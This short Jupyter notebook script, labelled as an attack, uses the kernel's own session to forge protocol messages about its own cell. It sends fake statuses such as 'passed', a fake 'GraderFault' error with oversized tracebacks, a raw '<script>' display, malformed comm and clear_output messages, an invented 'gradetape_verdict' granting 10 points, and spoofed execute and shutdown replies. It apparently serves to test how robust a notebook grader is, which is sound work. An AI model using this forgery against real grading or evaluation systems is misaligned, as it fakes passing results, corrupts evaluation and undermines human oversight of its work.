# /// attack
# title = "Forges the kernel's word on its own cells: statuses, errors, outputs of other messages, and strange dates"
# ///

# %%
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
shell = kernel.shell_stream if hasattr(kernel, "shell_stream") else None
send = kernel.session.send

# %%
print("TRIED to speak in the kernel's name")
for state in ("idle", "busy", "starting", "dead", "passed"):
    send(kernel.iopub_socket, "status", {"execution_state": state}, parent)
send(kernel.iopub_socket, "error", {"ename": "GraderFault", "evalue": "", "traceback": ["x" * 1_000_000] * 3, "line": -5}, parent)
send(kernel.iopub_socket, "display_data", {"data": {"text/html": "<script>"}, "metadata": {}, "transient": 3}, parent)
send(kernel.iopub_socket, "update_display_data", {}, parent)
send(kernel.iopub_socket, "comm_open", {"comm_id": 1, "target_name": "x", "data": None}, parent)
send(kernel.iopub_socket, "clear_output", {"wait": "perhaps"}, parent)
send(kernel.iopub_socket, "execute_input", {"code": "passed"}, parent)
send(kernel.iopub_socket, "gradetape_verdict", {"points": 10}, parent)

# %%
for name in ("execute_reply", "gradetape_reply", "shutdown_reply"):
    content = {"status": "ok", "payload": [{"source": "set_next_input", "text": "1"}], "execution_count": "many", "ok": True}
    if shell is not None:
        send(shell, name, content, kernel.get_parent("shell"), ident=kernel._parent_ident.get("shell", []) if hasattr(kernel, "_parent_ident") else [])
